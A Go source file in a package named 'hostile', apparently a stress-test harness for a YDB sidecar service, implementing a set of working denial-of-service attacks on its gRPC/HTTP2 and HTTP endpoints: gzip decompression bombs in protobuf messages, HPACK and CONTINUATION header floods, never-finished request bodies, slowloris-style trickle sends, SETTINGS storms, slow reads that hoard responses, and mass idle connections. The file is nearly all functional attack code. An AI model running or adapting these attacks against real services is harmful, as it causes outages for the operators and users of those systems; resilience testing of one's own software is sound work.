package hostile

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"github.com/ydb-platform/ydb-go-genproto/protos/Ydb_Query"
	"github.com/ydb-platform/ydb-go-genproto/protos/Ydb_Table"
	"golang.org/x/net/http2"
	"google.golang.org/protobuf/encoding/protowire"

	sidecarv1 "github.com/ydb-sidecar/sidecar/proto/sidecar/v1"
)

// nestedRow is a BulkUpsertRequest, compressed, with a row of so many values.
func nestedRow(values int) []byte {
	item := (&sidecarv1.Value{}).ProtoReflect().Descriptor().Fields().ByName("list_value").Number()
	list := protowire.AppendBytes(protowire.AppendTag(nil, item, protowire.BytesType), bytes.Repeat([]byte{1<<3 | 2, 0}, values))
	column := protowire.AppendString(protowire.AppendTag(nil, 1, protowire.BytesType), "a")
	column = protowire.AppendBytes(protowire.AppendTag(column, 2, protowire.BytesType), list)
	row := protowire.AppendBytes(protowire.AppendTag(nil, 1, protowire.BytesType), column)
	request := message(&sidecarv1.BulkUpsertRequest{Table: "bench", Types: map[string]string{"a": "Int64"}})[5:]
	return framed(1, zipped(protowire.AppendBytes(protowire.AppendTag(request, 2, protowire.BytesType), row)))
}

// ingestColumns names columns in place of rows.
func ingestColumns(ctx context.Context, a *attacker) {
	open := framed(1,
		zipped(message(&sidecarv1.IngestRequest{Part: &sidecarv1.IngestRequest_Open{Open: &sidecarv1.IngestOpen{Table: "bench"}}})[5:]))
	columns := protowire.AppendBytes(protowire.AppendTag(nil, 2, protowire.BytesType), bytes.Repeat([]byte{1<<3 | 2, 0}, 8_000_000))
	bomb := append(open, framed(1, zipped(columns))...)
	a.bombs(ctx, "/sidecar.v1.Ingest/Ingest", "", bomb)
}

func statement(text string) *Ydb_Query.ExecuteQueryRequest {
	return &Ydb_Query.ExecuteQueryRequest{SessionId: "ydb://session/3?node_id=1&id=none", ExecMode: Ydb_Query.ExecMode_EXEC_MODE_EXECUTE,
		Query: &Ydb_Query.ExecuteQueryRequest_QueryContent{
			QueryContent: &Ydb_Query.QueryContent{Syntax: Ydb_Query.Syntax_SYNTAX_YQL_V1, Text: text},
		}}
}

// unary makes a call and waits for its end.
func (p *peer) unary(ctx context.Context, path, ticket string, message []byte, more ...string) error {
	id, err := p.open(false, call(path, ticket, more...)...)
	if err == nil {
		err = p.send(ctx, id, message, true)
	}
	if err == errEnded { // it was answered by its headers alone
		return nil
	}
	if err != nil {
		return err
	}
	limited, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	return p.wait(limited, id)
}

func (a *attacker) bombs(ctx context.Context, path, ticket string, bomb []byte) {
	a.onPeers(ctx, 20, true, func(ctx context.Context, p *peer) error {
		return p.unary(ctx, path, ticket, bomb, "grpc-encoding", "gzip")
	})
}

// heldHeaders opens calls that wait for a message, with one long header again and again: HPACK names it by a byte.
func heldHeaders(ctx context.Context, a *attacker) {
	fields := call(queryService+"ExecuteQuery", a.Ticket)
	for range 15 {
		fields = append(fields, "x-long", strings.Repeat("x", 3900))
	}
	a.onPeers(ctx, 4, true, func(ctx context.Context, p *peer) error {
		for range 4000 {
			if _, err := p.open(false, fields...); err != nil {
				return err
			}
			a.pace(ctx)
		}
		rest(ctx, 10*time.Second)
		return errClosed
	})
}

// parts begins n calls on each connection, of each path in turn, with a message of that size that never becomes whole.
func (a *attacker) parts(ctx context.Context, size, n int, ticket string, paths ...string) {
	whole := framed(0, make([]byte, size))
	a.onPeers(ctx, 20, true, func(ctx context.Context, p *peer) error {
		limited, cancel := context.WithTimeout(ctx, 10*time.Second)
		defer cancel()
		for i := range n {
			id, err := p.open(false, call(paths[i%len(paths)], ticket)...)
			if err != nil {
				return err
			}
			go func() { _ = p.send(limited, id, whole[:len(whole)-1], false) }() // it ends with limited
		}
		rest(ctx, 10*time.Second)
		return errClosed
	})
}

// smallHolders begins messages that it never ends, each no longer than a frame.
func smallHolders(ctx context.Context, a *attacker) {
	part := framed(0, make([]byte, 1<<20))[:15_900]
	a.onPeers(ctx, 2, true, func(ctx context.Context, p *peer) error {
		ids := make([]uint32, 4000)
		for ctx.Err() == nil {
			for i := range ids {
				if err := p.more(ctx, &ids[i], part, call(plainService+"Execute", "")); err != nil {
					return err
				}
				a.pace(ctx)
			}
			rest(ctx, 4*time.Second)
		}
		return nil
	})
}

// more sends another byte of a call, or the start of a new one if it has ended.
func (p *peer) more(ctx context.Context, id *uint32, start []byte, fields []string) error {
	limited, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	if *id > 0 && p.send(limited, *id, []byte{0}, false) == nil {
		return nil
	}
	var err error
	if *id, err = p.open(false, fields...); err != nil {
		return err
	}
	_ = p.send(limited, *id, start, false) // refused: it is begun again
	return nil
}

// parkedHeaders keeps as many calls open as one connection may have.
func parkedHeaders(ctx context.Context, a *attacker) {
	a.onPeers(ctx, 10, true, keepOpen(4000, call(queryService+"ExecuteQuery", a.Ticket)))
}

// keepOpen keeps so many calls with those headers open on a connection, and says no more on them.
func keepOpen(calls int, fields []string) func(context.Context, *peer) error {
	return func(ctx context.Context, p *peer) error {
		p.mu.Lock()
		open := len(p.windows)
		p.mu.Unlock()
		if open >= calls {
			rest(ctx, 10*time.Millisecond)
			return nil
		}
		_, err := p.open(false, fields...)
		return err
	}
}

// unfinishedHeaders stops where what it sent has to be kept.
func unfinishedHeaders(ctx context.Context, a *attacker) {
	var turn atomic.Int64
	a.onPeers(ctx, 2000, true, func(ctx context.Context, p *peer) error {
		inFrame := turn.Add(1)%2 == 0
		err := p.write(func(f *http2.Framer) error {
			if inFrame {
				whole := append([]byte{0, 0x40, 0, 0xee, 0, 0, 0, 0, 0}, make([]byte, maxFrame)...) // of no known type
				_, err := p.conn.Write(whole[:maxFrame-10])
				return err
			}
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: p.next, BlockFragment: make([]byte, 15_000)}); err != nil {
				return err
			}
			for range 3 {
				a.pace(ctx)
				if err := f.WriteContinuation(p.next, false, make([]byte, 15_000)); err != nil {
					return err
				}
			}
			return nil
		})
		if err != nil {
			return err
		}
		for ctx.Err() == nil {
			rest(ctx, 4*time.Second)
			select {
			case <-p.gone:
				return errClosed
			default:
			}
			if inFrame { // it is not silent
				if _, err := p.conn.Write([]byte{0}); err != nil {
					return err
				}
			}
		}
		return nil
	})
}

func (a *attacker) sessions(ctx context.Context, ticket string) {
	a.onPeers(ctx, 10, true, func(ctx context.Context, p *peer) error {
		if err := p.unary(ctx, queryService+"CreateSession", ticket, message(new(Ydb_Query.CreateSessionRequest))); err != nil {
			return err
		}
		return p.unary(ctx, tableService+"CreateSession", ticket, message(new(Ydb_Table.CreateSessionRequest)))
	})
}

// hoards reads answers so slowly that they stay in the sidecar.
func hoards(ctx context.Context, a *attacker) {
	large := message(&sidecarv1.ExecuteRequest{Sql: SelectLarge})
	a.onPeers(ctx, 5, false, func(ctx context.Context, p *peer) error {
		var ids []uint32
		for range 400 {
			id, err := p.open(false, call(plainService+"ExecuteStream", "")...)
			if err == nil {
				err = p.send(ctx, id, large, true)
			}
			if err != nil {
				return err
			}
			ids = append(ids, id)
			a.pace(ctx)
		}
		for ctx.Err() == nil {
			rest(ctx, 5*time.Second)
			for _, id := range ids {
				if err := p.write(func(f *http2.Framer) error { return f.WriteWindowUpdate(id, 1) }); err != nil {
					return err
				}
			}
		}
		return nil
	})
}

// longDeclarations sends statements that are new each time: what a sidecar remembers of them adds up.
func longDeclarations(ctx context.Context, a *attacker) {
	var count atomic.Int64
	comment := strings.Repeat("x", 1<<20)
	a.each(ctx, 10, func(ctx context.Context) error {
		conn, err := new(net.Dialer).DialContext(ctx, "tcp", a.HTTP)
		if err != nil {
			return err
		}
		defer conn.Close()
		_ = conn.SetDeadline(time.Now().Add(15 * time.Second)) // it is open
		body := fmt.Sprintf(`{"statements":[{"sql":"DECLARE $a AS Int64; SELECT $a; -- %d %s","params":{"a":1}}]}`, count.Add(1), comment)
		if _, err := fmt.Fprintf(
			conn,
			"POST /v1/tx HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s",
			len(body), body,
		); err != nil {
			return err
		}
		_, err = bufio.NewReader(conn).ReadByte()
		return err
	})
}

// openPosts keeps as many calls of HTTP open as the connections may have, on more connections than there may be.
func openPosts(ctx context.Context, a *attacker) {
	a.onPeersOf(ctx, a.HTTP, 400, true, keepOpen(100, []string{
		":method", "POST", ":scheme", "http", ":path", "/v1/query", ":authority", "localhost", "content-type", "application/json",
	}))
}

func settingsStorm(ctx context.Context, a *attacker) {
	a.onPeers(ctx, 5, true, func(ctx context.Context, p *peer) error {
		for range 1000 {
			if _, err := p.open(false, call(queryService+"ExecuteQuery", a.Ticket)...); err != nil {
				return err
			}
		}
		for n := uint32(0); ctx.Err() == nil; n++ {
			if err := p.write(func(f *http2.Framer) error {
				return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1000 + n%1000})
			}); err != nil {
				return err
			}
			a.pace(ctx)
		}
		return nil
	})
}

func idleConnections(ctx context.Context, a *attacker) {
	var open []net.Conn
	defer func() {
		for _, conn := range open {
			_ = conn.Close() // it said nothing
		}
	}()
	for ctx.Err() == nil {
		for _, address := range []string{a.GRPC, a.HTTP} {
			conn, err := new(net.Dialer).DialContext(ctx, "tcp", address)
			if err != nil {
				rest(ctx, errorPause)
				continue
			}
			open = append(open, conn)
		}
		for len(open) > 9000 { // descriptors of this process
			_ = open[0].Close() // it said nothing
			open = open[1:]
		}
		a.pace(ctx)
	}
}

// slowly sends a text a byte at a time.
func (a *attacker) slowly(ctx context.Context, text string) error {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", a.HTTP)
	if err != nil {
		return err
	}
	defer conn.Close()
	for i := range len(text) {
		if _, err := conn.Write([]byte{text[i]}); err != nil {
			return err
		}
		if rest(ctx, 100*time.Millisecond); ctx.Err() != nil {
			return ctx.Err()
		}
	}
	return nil
}

// posts sends bodies of a size, of the same text again and again; without an end the last byte does not come.
func (a *attacker) posts(ctx context.Context, n int, path, kind string, size int, text string, end bool) {
	a.each(ctx, n, func(ctx context.Context) error {
		conn, err := new(net.Dialer).DialContext(ctx, "tcp", a.HTTP)
		if err != nil {
			return err
		}
		defer conn.Close()
		stop := context.AfterFunc(ctx, func() { _ = conn.Close() }) // wakes who writes
		defer stop()
		announced := size
		if !end {
			announced++
		}
		if _, err := fmt.Fprintf(
			conn, "POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n", path, kind,
			announced,
		); err != nil {
			return err
		}
		_ = conn.SetDeadline(time.Now().Add(15 * time.Second)) // it is open
		if _, err := io.Copy(conn, &endless{text: text, left: size, wait: func() { a.pace(ctx) }}); err != nil {
			return err
		}
		_, err = bufio.NewReader(conn).ReadByte()
		return err
	})
}

func openStreams(ctx context.Context, a *attacker) {
	a.onPeers(ctx, 10, true, func(ctx context.Context, p *peer) error {
		for i := range 100 {
			path, data := "/sidecar.v1.Ingest/Ingest", []byte(nil)
			if i%2 == 0 {
				path, data = "/grpc.health.v1.Health/Watch", framed(0, nil)
			}
			id, err := p.open(false, call(path, "")...)
			if err == nil && data != nil {
				err = p.send(ctx, id, data, true)
			}
			if err != nil {
				return err
			}
		}
		rest(ctx, 20*time.Second)
		return errClosed
	})
}

// unread asks for much and reads nothing.
func unread(ctx context.Context, a *attacker) {
	const body = `{"sql":"` + SelectLarge + `"}`
	a.each(ctx, 100, func(ctx context.Context) error {
		conn, err := new(net.Dialer).DialContext(ctx, "tcp", a.HTTP)
		if err != nil {
			return err
		}
		defer conn.Close()
		if _, err := fmt.Fprintf(
			conn,
			"POST /v1/query HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nAccept: "+
				"application/x-ndjson\r\nContent-Length: %d\r\n\r\n%s",
			len(body), body,
		); err != nil {
			return err
		}
		rest(ctx, 10*time.Second)
		return nil
	})
}
